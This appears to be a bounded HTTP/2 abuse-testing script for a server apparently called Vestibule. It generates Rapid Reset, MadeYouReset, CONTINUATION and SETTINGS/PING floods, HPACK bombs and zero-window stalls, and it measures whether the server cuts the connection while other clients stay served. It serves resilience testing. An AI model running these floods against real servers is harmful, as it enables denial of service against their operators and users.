#!/usr/bin/env python3
"""HTTP/2 abuse against Vestibule (h2c prior knowledge): floods, MadeYouReset, zero-window
stalls, HPACK bombs, and the per-connection stream cap.

usage: abuse.py SCENARIO HOST PORT AUTHORITY [SLOW_PATH]
       abuse.py --list

Prints one JSON object. Flood scenarios report:
  cut           the server ended the connection (GOAWAY or close)
  goaway        its GOAWAY error code, if any
  frames_sent   attack frames the client had sent when it saw the end (sending overshoots what
                the server read: socket buffers)
  seconds       from the first attack frame to the end
  others        {"ok", "failed"}: a well-behaved client on its own connection, GETting in a loop
                while the attack runs
  healthy_after status of a GET on a fresh connection afterwards
Every loop is bounded: at most MAX_FRAMES attack frames and MAX_SECONDS seconds.
"""
import json
import sys
import threading
import time

from h2raw import (CONTINUATION, END_HEADERS, HEADER_TABLE_SIZE, INITIAL_WINDOW_SIZE, Conn, continuation, data,
                   decided, frame, headers_frame, ping, priority, request, rst_stream, settings, window_update)

MAX_FRAMES = 20000
MAX_SECONDS = 3.0


def hint(value, prefix_bits, first=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value % 128) | 0x80)
        value //= 128
    out.append(value)
    return bytes(out)


def literal(name, value, indexing=False):
    name, value = name.encode(), value.encode()
    return (b"\x40" if indexing else b"\x00") + hint(len(name), 7) + name + hint(len(value), 7) + value


def plain_block(headers):
    return b"".join(literal(n, v) for n, v in headers)


class GoodClient(threading.Thread):
    """GETs in a loop on its own connection (reconnecting if needed) until stopped."""

    def __init__(self, host, port, authority):
        super().__init__(daemon=True)
        self.args = (host, port, authority)
        self.ok = 0
        self.failed = 0
        self.stop = threading.Event()

    def run(self):
        host, port, authority = self.args
        conn, stream = None, 1
        deadline = time.monotonic() + 30
        while not self.stop.is_set() and time.monotonic() < deadline:
            try:
                if conn is None or conn.closed or conn.goaway is not None or stream > 999:
                    if conn:
                        conn.close()
                    conn, stream = Conn(host, port).handshake(), 1
                conn.send(headers_frame(stream, plain_block(request(authority))))
                conn.wait(decided(stream), 2.0)
                if conn.status(stream) == "200":
                    self.ok += 1
                else:
                    self.failed += 1
                    conn.close()
                    conn = None
            except OSError:
                self.failed += 1
                conn = None
            stream += 2
            time.sleep(0.02)
        if conn:
            conn.close()


def wait_for(condition, limit):
    deadline = time.monotonic() + limit
    while not condition() and time.monotonic() < deadline:
        time.sleep(0.01)


def get_once(host, port, authority):
    try:
        conn = Conn(host, port).handshake()
        conn.send(headers_frame(1, plain_block(request(authority))))
        conn.wait(decided(1), 5.0)
        status = conn.status(1)
        conn.close()
        return status
    except OSError as error:
        return "error: %s" % error


def flood(host, port, authority, batches, setup=None, read=True):
    """Sends the frames `batches` yields ((bytes, frame count) pairs) until the server ends the
    connection or the bounds are reached; a good client runs meanwhile."""
    good = GoodClient(host, port, authority)
    good.start()
    wait_for(lambda: good.ok > 0, 5.0)  # served before the attack starts
    conn = Conn(host, port).handshake()
    if setup:
        setup(conn)
    sent = 0
    started = time.monotonic()
    seconds = None
    for chunk, count in batches(conn):
        if not conn.send(chunk):
            break
        sent += count
        if read:
            conn.pump(0.0005)
        if conn.closed or (conn.goaway is not None and conn.goaway[0] != "NO_ERROR"):
            break
        if sent >= MAX_FRAMES or time.monotonic() - started > MAX_SECONDS:
            break
    cut = conn.closed or conn.goaway is not None
    if cut:
        seconds = time.monotonic() - started
    else:
        # The attack stopped (bounds): does the server end the connection soon after?
        conn.wait(lambda c: c.goaway is not None or c.closed, 1.0)
    if not cut and (conn.goaway is not None or conn.closed):
        cut, seconds = True, time.monotonic() - started
    conn.close()
    # ... and goes on being served right after it.
    served_before_end = good.ok
    wait_for(lambda: good.ok >= served_before_end + 3 or good.failed > 0, 5.0)
    good.stop.set()
    good.join(10)
    return {"cut": cut, "goaway": conn.goaway[0] if conn.goaway else None, "frames_sent": sent,
            "seconds": round(seconds, 3) if seconds is not None else None,
            "others": {"ok": good.ok, "failed": good.failed},
            "healthy_after": get_once(host, port, authority)}


def streams(start=1):
    stream = start
    while True:
        yield stream
        stream += 2


# Scenarios ---------------------------------------------------------------------------------------

def rapid_reset(paced):
    """HEADERS immediately followed by RST_STREAM (CVE-2023-44487), 50 pairs per write; `paced`:
    one pair per write, reading in between, so the server accepts each stream before its reset
    arrives."""
    def scenario(host, port, a, slow):
        block = plain_block(request(a, slow))
        per_write = 1 if paced else 50

        def batches(conn):
            s = streams()
            while True:
                chunk = b""
                for _ in range(per_write):
                    stream = next(s)
                    chunk += headers_frame(stream, block) + rst_stream(stream, 8)
                yield chunk, 2 * per_write
        return flood(host, port, a, batches)
    return scenario


def continuation_flood(host, port, a, slow):
    """HEADERS without END_HEADERS, then full CONTINUATION frames of junk headers."""
    junk = plain_block([("x-junk-%d" % i, "v" * 1000) for i in range(16)])

    def batches(conn):
        yield headers_frame(1, plain_block(request(a)), end_headers=False), 1
        while True:
            yield continuation(1, junk, end_headers=False), 1
    return flood(host, port, a, batches)


def continuation_empty(host, port, a, slow):
    """HEADERS without END_HEADERS, then empty CONTINUATION frames (the block never grows)."""
    def batches(conn):
        yield headers_frame(1, plain_block(request(a)), end_headers=False), 1
        empty = frame(CONTINUATION, 0, 1, b"")
        while True:
            yield empty * 50, 50
    return flood(host, port, a, batches)


def made_you_reset(variant):
    """Streams the server is made to reset by the client's protocol errors (CVE-2025-8671): each
    stream is a real request (forwarded upstream) and then a frame the server must reset it for."""
    def scenario(host, port, a, slow):
        get = plain_block(request(a, slow))
        post = plain_block(request(a, slow, "POST", [("content-length", "1")]))

        def batches(conn):
            for s in streams():
                if variant == "priority":  # self-dependency: stream error PROTOCOL_ERROR
                    yield headers_frame(s, get) + priority(s, s), 2
                elif variant == "content-length":  # more DATA than content-length
                    yield headers_frame(s, post, end_stream=False) + data(s, b"xx", end_stream=True), 2
                elif variant == "window-overflow":  # stream window past 2^31-1: FLOW_CONTROL_ERROR
                    yield headers_frame(s, get) + window_update(s, 0x7FFFFFFF), 2
                elif variant == "window-zero":  # WINDOW_UPDATE of 0: PROTOCOL_ERROR
                    yield headers_frame(s, get) + window_update(s, 0), 2
                elif variant == "half-closed-data":  # DATA after END_STREAM: STREAM_CLOSED
                    yield headers_frame(s, get) + data(s, b"x"), 2
        return flood(host, port, a, batches)
    return scenario


def settings_flood(host, port, a, slow):
    """SETTINGS frames back to back (each needs an ACK), ACKs read."""
    def batches(conn):
        one = settings((INITIAL_WINDOW_SIZE, 65535), (HEADER_TABLE_SIZE, 4096))
        while True:
            yield one * 20, 20
    return flood(host, port, a, batches)


def ping_flood(host, port, a, slow):
    """PING frames back to back (each needs an ACK), ACKs read."""
    def batches(conn):
        one = ping(b"12345678")
        while True:
            yield one * 20, 20
    return flood(host, port, a, batches)


def hpack_bomb(host, port, a, slow):
    """One 4000-byte dynamic-table entry, referenced 1000 times per header block: 4 MB of headers
    from 1 KB, on stream after stream."""
    def batches(conn):
        first = plain_block(request(a)) + literal("x-bomb", "b" * 4000, indexing=True)
        yield headers_frame(1, first), 1
        bomb = plain_block(request(a)) + b"\xbe" * 1000  # index 62: the entry above
        for s in streams(3):
            yield headers_frame(s, bomb), 1
    return flood(host, port, a, batches)


def hpack_huge_literal(host, port, a, slow):
    """One header literal of 1 MiB over CONTINUATION frames."""
    def batches(conn):
        block = plain_block(request(a)) + literal("x-huge", "h" * (1 << 20))
        chunks = [block[i:i + 16384] for i in range(0, len(block), 16384)]
        yield headers_frame(1, chunks[0], end_headers=False), 1
        for i, chunk in enumerate(chunks[1:]):
            yield continuation(1, chunk, end_headers=i == len(chunks) - 2), 1
    return flood(host, port, a, batches)


def hpack_many_small(host, port, a, slow):
    """200,000 tiny headers (`a: b`, 3 bytes encoded each) in one block over CONTINUATIONs: far
    past the 64 KiB header list limit (32 bytes of overhead per field)."""
    def batches(conn):
        block = plain_block(request(a)) + b"\x00\x01a\x01b" * 200000
        chunks = [block[i:i + 16384] for i in range(0, len(block), 16384)]
        yield headers_frame(1, chunks[0], end_headers=False), 1
        for i, chunk in enumerate(chunks[1:]):
            yield continuation(1, chunk, end_headers=i == len(chunks) - 2), 1
    return flood(host, port, a, batches)


def hpack_table_size(host, port, a, slow):
    """The client asks for a 4 GiB encoder table (SETTINGS_HEADER_TABLE_SIZE = 2^32-1) and sends
    table size updates past the server's 4096 on stream after stream."""
    def setup(conn):
        conn.send(settings((HEADER_TABLE_SIZE, 0xFFFFFFFF)))

    def batches(conn):
        for s in streams():
            yield headers_frame(s, hint(1 << 30, 5, 0x20) + plain_block(request(a))), 1
    return flood(host, port, a, batches, setup=setup)


def zero_window(host, port, a, slow, hold=12.0):
    """SETTINGS_INITIAL_WINDOW_SIZE = 0 and 20 requests for large responses; the client never
    opens a window and holds the connection. Reports when (if) the server ended it."""
    conn = Conn(host, port)
    conn.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", settings((INITIAL_WINDOW_SIZE, 0)))
    conn.wait(lambda c: c.server_settings_seen, 5.0)
    for s in range(1, 41, 2):
        conn.send(headers_frame(s, plain_block(request(a, slow))))
    started = time.monotonic()
    conn.wait(lambda c: len(c.responses) >= 20, 5.0)
    heads = len(conn.responses)
    conn.wait(lambda c: c.closed, hold)
    ended = time.monotonic() - started if conn.closed else None
    conn.close()
    return {"responses_started": heads, "data_bytes": sum(len(b) for b in conn.body.values()),
            "goaway": conn.goaway[0] if conn.goaway else None, "closed": conn.closed,
            "closed_after_seconds": round(ended, 2) if ended is not None else None, "held_seconds": hold,
            "healthy_after": get_once(host, port, a)}


def concurrency(host, port, a, slow, count=400):
    """`count` requests for a slow path at once on one connection: at most
    SETTINGS_MAX_CONCURRENT_STREAMS are served, the rest are refused."""
    conn = Conn(host, port).handshake()
    block = plain_block(request(a, slow))
    conn.send(*[headers_frame(s, block) for s in range(1, 2 * count, 2)])
    conn.wait(lambda c: all(s in c.resets or s in c.ended for s in range(1, 2 * count, 2))
              or c.goaway is not None, 30.0)
    conn.close()
    codes = {}
    for code in conn.resets.values():
        codes[code] = codes.get(code, 0) + 1
    return {"advertised": conn.server_settings.get(3), "ok": sum(1 for r in conn.responses.values()
                                                                 if r.get(":status") == "200"),
            "resets": codes, "goaway": conn.goaway[0] if conn.goaway else None}


SCENARIOS = {
    "rapid-reset": rapid_reset(False),
    "rapid-reset-paced": rapid_reset(True),
    "continuation-flood": continuation_flood,
    "continuation-empty": continuation_empty,
    "made-you-reset-priority": made_you_reset("priority"),
    "made-you-reset-content-length": made_you_reset("content-length"),
    "made-you-reset-window-overflow": made_you_reset("window-overflow"),
    "made-you-reset-window-zero": made_you_reset("window-zero"),
    "made-you-reset-half-closed-data": made_you_reset("half-closed-data"),
    "settings-flood": settings_flood,
    "ping-flood": ping_flood,
    "hpack-bomb": hpack_bomb,
    "hpack-huge-literal": hpack_huge_literal,
    "hpack-many-small": hpack_many_small,
    "hpack-table-size": hpack_table_size,
    "zero-window": zero_window,
    "concurrency": concurrency,
}


def main():
    if sys.argv[1] == "--list":
        print(json.dumps(sorted(SCENARIOS)))
        return
    scenario, host, port, authority = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
    slow = sys.argv[5] if len(sys.argv) > 5 else "/?delayMs=1000"
    result = SCENARIOS[scenario](host, port, authority, slow)
    result["scenario"] = scenario
    print(json.dumps(result))


if __name__ == "__main__":
    main()
